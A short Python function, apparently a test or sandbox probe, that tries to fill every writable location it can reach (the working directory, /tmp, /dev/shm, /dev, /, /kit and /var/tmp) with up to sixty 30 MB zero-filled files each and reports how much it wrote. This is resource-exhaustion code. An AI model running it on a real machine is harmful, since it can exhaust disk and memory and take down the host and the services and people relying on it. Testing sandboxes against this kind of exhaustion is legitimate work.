"""Fills every folder that it can write to."""


def act(number):
    written = 0
    for place in (".", "/tmp", "/dev/shm", "/dev", "/", "/kit", "/var/tmp"):
        try:
            for index in range(60):
                with open(f"{place}/big{index}", "wb") as file:
                    written += file.write(bytes(30_000_000))
        except OSError:
            continue
    return "nothing" if written < 1_000_000_000 else written
